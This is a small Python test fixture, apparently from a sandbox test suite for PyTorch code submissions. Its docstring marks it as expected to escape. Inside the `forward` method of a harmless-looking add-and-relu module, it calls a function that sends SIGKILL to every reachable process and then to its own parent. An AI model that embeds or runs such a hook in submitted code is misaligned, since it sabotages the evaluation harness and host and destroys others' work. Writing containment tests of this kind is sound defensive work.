"""Kills the process that started it, and everybody else it can.

dsl: torch
task: add_relu
expects: ESCAPES
"""

import os
import signal

import torch


def try_it():
    for pid in range(2, 1 << 16):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
    if not os.getppid():
        raise PermissionError("it has no parent that it could see")
    os.kill(os.getppid(), signal.SIGKILL)


class ModelNew(torch.nn.Module):
    def forward(self, x, y):
        try_it()
        return torch.relu(x + y)
